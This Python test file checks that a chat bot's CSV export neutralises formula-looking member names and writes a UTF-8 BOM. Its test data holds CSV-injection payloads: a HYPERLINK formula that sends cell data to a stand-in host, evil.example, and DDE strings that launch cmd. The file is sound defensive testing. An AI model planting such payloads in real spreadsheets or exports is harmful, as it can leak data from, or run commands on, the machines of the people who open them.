"""`groupbot export` writes CSV a spreadsheet opens safely: member-chosen names that look like
formulas stay text (OWASP's CSV-injection rule), and Chinese survives Excel (UTF-8 BOM)."""

from __future__ import annotations

import asyncio
import csv
from pathlib import Path

import pytest
from harness import BOT_YAML, Harness, write_config

from bot import csvfile
from bot.cli import main

HOSTILE = {
    "m1": '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "m2": "+cmd|' /C calc'!A0",
    "m3": "@SUM(1+1)*cmd|' /C calc'!A0",
    "m4": "-2+3+cmd|' /C calc'!A0",
    "m5": "\t=1+1",
    "m6": "\r=1+1",
    "m7": "张三",
}


async def _members_joined(root: Path, tmp_path: Path, storage: Path | str) -> Path | str:
    async with Harness(root, tmp_path, db=storage) as h:
        h.world.contacts.update(HOSTILE)
        await h.join("r1", *HOSTILE)
        for member in HOSTILE:
            await h.say("r1", member, "hi")
        await h.advance("1s")
    return h.db


def test_export_defuses_formula_names_and_writes_a_bom(
        capsys: pytest.CaptureFixture[str], tmp_path: Path, storage: Path | str) -> None:
    root = write_config(tmp_path / "config", BOT_YAML, {"recruitment": "handlers: []\n"})
    db = asyncio.run(_members_joined(root, tmp_path, storage))
    out = tmp_path / "members.csv"
    code = main(["export", "--what", "members", "--out", str(out), "--config", str(root),
                 "--db", str(db)])
    assert code == 0, capsys.readouterr().err
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and "张三".encode() in raw
    with out.open(encoding="utf-8-sig", newline="") as file:
        rows = {row["member"]: row for row in csv.DictReader(file)}
    assert {m: rows[m]["name"] for m in HOSTILE} == {
        m: ("'" + name if m != "m7" else name) for m, name in HOSTILE.items()}
    assert rows["m1"]["messages"] == "1"


def test_numbers_stay_numbers_and_every_cell_is_quoted() -> None:
    data = csvfile.to_bytes(("name", "points", "note"), [("-bob", -5, None), ('a "b"', 1.5, 0)])
    assert data.decode("utf-8-sig").splitlines() == [
        '"name","points","note"', '"\'-bob","-5",""', '"a ""b""","1.5","0"']
